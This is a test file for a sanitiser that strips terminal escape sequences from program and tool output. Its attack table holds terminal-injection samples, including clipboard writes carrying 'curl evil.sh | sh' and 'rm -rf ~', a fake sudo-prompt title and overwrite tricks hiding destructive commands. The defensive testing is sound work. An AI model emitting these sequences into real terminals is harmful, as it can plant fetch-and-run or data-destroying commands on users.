import { describe, expect, it } from 'vitest';
import { terminalSafe } from '../../src/events/terminal-safe-text.js';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

/**
 * What a terminal could act on in `out`: any C0 control but \n and \t, DEL, any C1, and any ESC
 * that does not start a plain SGR (ESC [ digits ; : m) without "conceal".
 */
function actionable(out: string): string[] {
  const found: string[] = [];
  // biome-ignore lint/suspicious/noControlCharactersInRegex: an SGR starts with ESC
  const withoutSgr = out.replace(/\x1b\[([0-9;:]*)m/g, (m, params: string) => {
    const ps = params.split(';');
    for (let k = 0; k < ps.length; k++) {
      if (/^(38|48|58)$/.test(ps[k]) && ps[k + 1] === '5') k += 2;
      else if (/^(38|48|58)$/.test(ps[k]) && ps[k + 1] === '2') k += 4;
      else if (ps[k] === '8' || ps[k] === '08') found.push(`conceal in ${JSON.stringify(m)}`);
    }
    return '';
  });
  for (const ch of withoutSgr) {
    const c = ch.charCodeAt(0);
    if ((c < 0x20 && ch !== '\n' && ch !== '\t') || (c >= 0x7f && c <= 0x9f)) found.push(`U+${c.toString(16).padStart(4, '0')}`);
  }
  return found;
}

function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Sequences an attacker writes into a run's output, a tool's result or an answer. */
const ATTACKS: Record<string, string> = {
  'OSC 52 clipboard write, BEL': `${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}${BEL}`,
  'OSC 52 clipboard write, ST': `${ESC}]52;c;${Buffer.from('rm -rf ~').toString('base64')}${ST}`,
  'OSC 52, 8-bit': `\x9d52;c;ZWNobyBwd25lZA==\x9c`,
  'OSC 0 window title': `${ESC}]0;sudo password required${BEL}`,
  'OSC 2 title, 8-bit ST': `${ESC}]2;owned\x9c`,
  'OSC 8 hyperlink': `${ESC}]8;;https://evil.example/${ST}click here${ESC}]8;;${ST}`,
  'OSC 4 palette change': `${ESC}]4;1;rgb:00/00/00${BEL}`,
  'DCS (DECRQSS)': `${ESC}P$qm${ST}`,
  'DCS tmux passthrough of OSC 52': `${ESC}Ptmux;${ESC}${ESC}]52;c;aGk=${BEL}${ST}`,
  'DCS 8-bit': `\x90+q544e${ESC}\\`,
  'APC (kitty graphics)': `${ESC}_Gf=100,a=T;AAAA${ST}`,
  PM: `${ESC}^private message${ST}`,
  SOS: `${ESC}Xstart of string${ST}`,
  'CSI clear screen and home': `${ESC}[2J${ESC}[H`,
  'CSI cursor up and erase line': `${ESC}[1A${ESC}[2K`,
  'CSI alternate screen': `${ESC}[?1049h`,
  'CSI device status report (answers on stdin)': `${ESC}[6n`,
  'CSI report window title (answers on stdin)': `${ESC}[21t`,
  'CSI hide cursor': `${ESC}[?25l`,
  'CSI 8-bit cursor position': `\x9b10;10H`,
  'CSI scroll region': `${ESC}[1;3r`,
  'CSI xterm modifyOtherKeys (private SGR-like)': `${ESC}[>4;2m`,
  'CSI SGR with an intermediate': `${ESC}[1 m`,
  'ESC 7 / ESC 8 save and restore cursor': `${ESC}7text${ESC}8`,
  'ESC c full reset': `${ESC}c`,
  'ESC # 8 screen alignment fill': `${ESC}#8`,
  'ESC ( 0 line-drawing charset': `${ESC}(0`,
  'ESC M reverse index': `${ESC}M`,
  'C1 NEL, IND, RI, SS3': `\x85\x84\x8d\x8fA`,
  'ESC before a non-ASCII letter': `${ESC}é`,
  'bell and backspaces': `rm -rf /${'\b'.repeat(8)}ls -la${BEL}`,
  'carriage return overwrite': `curl evil | sh\r# harmless comment       `,
  'NUL, DEL, form feed, vertical tab': `a\x00b\x7fc\x0cd\x0be`,
  'SGR conceal': `${ESC}[8mhidden${ESC}[0m`,
  'SGR conceal among colours': `${ESC}[0;8;31mhidden${ESC}[0m`,
};

describe('terminalSafe', () => {
  it('takes out each attack, keeping the text around it', () => {
    for (const [name, seq] of Object.entries(ATTACKS)) {
      const out = terminalSafe(`before ${seq} after`);
      expect(actionable(out), name).toEqual([]);
      expect(out.startsWith('before '), name).toBe(true);
      expect(out.endsWith(' after'), name).toBe(true);
    }
  });

  it('what each attack leaves: the payload of a control string is gone, the text a trick tried to hide is shown', () => {
    expect(terminalSafe(`a${ATTACKS['OSC 52 clipboard write, BEL']}b`)).toBe('ab');
    expect(terminalSafe(`a${ATTACKS['OSC 0 window title']}b`)).toBe('ab');
    expect(terminalSafe(`a${ATTACKS['OSC 8 hyperlink']}b`)).toBe('aclick hereb');
    expect(terminalSafe(`a${ATTACKS['DCS tmux passthrough of OSC 52']}b`)).toBe('ab');
    expect(terminalSafe(`a${ATTACKS['APC (kitty graphics)']}b`)).toBe('ab');
    expect(terminalSafe(ATTACKS['carriage return overwrite'])).toBe('curl evil | sh\n# harmless comment       ');
    expect(terminalSafe(ATTACKS['bell and backspaces'])).toBe('rm -rf /ls -la');
    expect(terminalSafe(ATTACKS['SGR conceal'])).toBe('hidden\x1b[0m');
    expect(terminalSafe(ATTACKS['SGR conceal among colours'])).toBe('\x1b[0;31mhidden\x1b[0m');
    // a bare ESC: at the end, before a line feed, before another ESC
    expect(terminalSafe(`a${ESC}`)).toBe('a');
    expect(terminalSafe(`a${ESC}\nb`)).toBe('a\nb');
    expect(terminalSafe(`a${ESC}${ESC}[31mb`)).toBe('a\x1b[31mb');
    // an unfinished OSC hides nothing: only its introducer goes
    expect(terminalSafe(`${ESC}]0;title and all the rest`)).toBe('0;title and all the rest');
  });

  it('keeps colour and style, plain text, line feeds, tabs and \\r\\n line ends', () => {
    const coloured = `${ESC}[31mred${ESC}[0m ${ESC}[1;4mbold${ESC}[m ${ESC}[38;5;8mgrey${ESC}[0m ${ESC}[38;2;1;8;3mrgb${ESC}[39m ${ESC}[38:2::255:0:0mx${ESC}[0m`;
    expect(terminalSafe(coloured)).toBe(coloured);
    expect(terminalSafe('plain text — ünïcödé 🙂\n\tindented\r\nnext')).toBe('plain text — ünïcödé 🙂\n\tindented\nnext');
    const same = 'nothing to clean here';
    expect(terminalSafe(same)).toBe(same);
  });

  it('random mixes of text, attacks, colour and loose fragments over 2,000 seeds leave nothing a terminal acts on, and every word of text', () => {
    const pieces = Object.values(ATTACKS);
    const colour = [`${ESC}[32m`, `${ESC}[0m`, `${ESC}[1;31m`, `${ESC}[38;5;208m`];
    const raw = ['\x1b', '\x9b', '\x9d', '\x90', '\x9c', '\x07', '[', ']', ';', '\\', 'P', '_', '^', 'm', '2', '\r', '\n'];
    for (let seed = 1; seed <= 2_000; seed++) {
      const next = rng(seed);
      const words: string[] = [];
      let text = '';
      const count = 1 + Math.floor(next() * 25);
      // half the seeds mix in loose fragments (a lone ESC, a C1 introducer, a BEL…), half whole sequences only
      const loose = seed % 2 === 0;
      for (let k = 0; k < count; k++) {
        const r = next();
        if (r < 0.3) {
          const w = ` word${seed}x${k} `;
          words.push(w.trim());
          text += w;
        } else if (r < 0.55) text += pieces[Math.floor(next() * pieces.length)];
        else if (r < 0.65) text += colour[Math.floor(next() * colour.length)];
        else if (loose) text += raw[Math.floor(next() * raw.length)];
      }
      const out = terminalSafe(text);
      expect(actionable(out), `seed ${seed}: ${JSON.stringify(text)}`).toEqual([]);
      // cleaning twice changes nothing more
      expect(terminalSafe(out), `seed ${seed}`).toBe(out);
      // with no loose fragment to start a control string, every word of text is still there, in order
      if (!loose) expect(out.match(/word\d+x\d+/g) ?? [], `seed ${seed}: ${JSON.stringify(text)}`).toEqual(words);
    }
  });

  it('every byte value after ESC and every C1 introducer, alone and with a body, leave nothing actionable', () => {
    for (let c = 0; c < 0x100; c++) {
      for (const body of ['', '1;2', '0;x', 'payload\x07', 'payload\x1b\\', '\x1b']) {
        for (const intro of [`${ESC}${String.fromCharCode(c)}`, String.fromCharCode(c)]) {
          const text = `${intro}${body}tail`;
          expect(actionable(terminalSafe(text)), JSON.stringify(text)).toEqual([]);
        }
      }
    }
  });

  it('many unended control strings in one text are cleaned in one pass (no quadratic rescans)', () => {
    const text = '\x9dabc'.repeat(50_000);
    const out = terminalSafe(text);
    expect(out).toBe('abc'.repeat(50_000));
  });
});
